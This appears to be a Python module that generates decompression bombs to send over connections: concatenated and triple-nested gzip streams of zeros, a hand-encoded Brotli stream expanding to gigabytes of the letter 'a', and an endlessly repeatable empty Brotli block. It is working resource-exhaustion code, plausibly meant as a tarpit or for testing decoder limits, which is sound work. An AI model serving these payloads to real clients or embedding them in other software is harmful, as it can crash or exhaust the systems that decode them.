"""Compressed texts that are small on the wire and large when they are decoded."""

import functools
import random
import struct
import threading
import zlib

BUILDING = threading.RLock()
GZIP_HEAD = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\x03"
# Brotli of no content: a window of 64 KiB, and a meta-block of no metadata (RFC 7932 section 9.2), which is a byte:
# not the last, no nibbles, a reserved bit, nothing to skip. The second may follow without end.
BROTLI_NOTHING = (b"\x0c", b"\x06")


def built_once(build):
    """Two connections that want the same text wait for each other rather than build it twice."""
    cached = functools.lru_cache(build)

    @functools.wraps(build)
    def get(*arguments):
        with BUILDING:
            return cached(*arguments)
    return get


@built_once
def zeros_segment():
    """Deflate blocks of 16 MiB of zeros that end at a byte, so that they may follow each other; 16 KiB."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    return deflate.compress(bytes(16 << 20)) + deflate.flush(zlib.Z_FULL_FLUSH)


@built_once
def repetitive_segment():
    """Deflate blocks of 16 MiB that are some 90 times their size."""
    deflate = zlib.compressobj(9, zlib.DEFLATED, -15)
    period = random.Random(1).randbytes(30_000)
    text = (period * ((16 << 20) // len(period) + 1))[:16 << 20]
    return deflate.compress(text) + deflate.flush(zlib.Z_FULL_FLUSH)


@built_once
def whole_gzip(megabytes):
    """A valid file of zeros, a multiple of 16 MiB."""
    segments = megabytes // 16
    checksum = 0
    for _ in range(segments):
        checksum = zlib.crc32(bytes(16 << 20), checksum)
    end = b"\x03\x00" + struct.pack("<II", checksum, (megabytes << 20) & 0xffffffff)
    return GZIP_HEAD + zeros_segment() * segments + end


@built_once
def gzip_of(text):
    deflate = zlib.compressobj(9, zlib.DEFLATED, 31)
    return deflate.compress(text) + deflate.flush()


@built_once
def nested_gzip():
    """A file of 512 MiB of zeros, compressed three times."""
    return gzip_of(gzip_of(whole_gzip(512)))


class Bits:
    """Bits from the least significant on, as RFC 7932 section 1.5.1 has them."""

    def __init__(self):
        self.number = 0
        self.size = 0

    def put(self, value, width):
        self.number |= value << self.size
        self.size += width

    def bytes(self):
        return self.number.to_bytes((self.size + 7) // 8, "little")


def put_copying_block(bits, is_last):
    """A meta-block of one command (RFC 7932 section 9.2): one letter, then a copy of it, 16 MiB in all."""
    size = 1 << 24
    bits.put(1 if is_last else 0, 1)
    if is_last:
        bits.put(0, 1)  # it is not empty
    bits.put(2, 2)  # six nibbles of length
    bits.put(size - 1, 24)
    if not is_last:
        bits.put(0, 1)  # it is compressed
    bits.put(0, 3)  # one type of block for literals, commands and distances
    bits.put(0, 6)  # NPOSTFIX and NDIRECT
    bits.put(0, 2)  # context mode
    bits.put(0, 2)  # one tree for literals and for distances
    # Prefix codes of a single symbol, which then takes no bits: of 256, 704 and 64 letters.
    for symbol, width in ((ord("a"), 8), (399, 10), (16, 6)):
        bits.put(1, 2)
        bits.put(0, 2)
        bits.put(symbol, width)
    # Command 399 inserts one literal and copies 2118 bytes and more; distance code 16 is 1, with an extra bit.
    bits.put(size - 1 - 2118, 24)
    bits.put(0, 1)


@built_once
def brotli_bomb(gigabytes):
    """So many GiB of the letter a: 17 bytes for every 16 MiB."""
    bits = Bits()
    bits.put(0b1111, 4)  # a window of 16 MiB
    count = gigabytes * 64
    for i in range(count):
        put_copying_block(bits, i == count - 1)
    return bits.bytes()
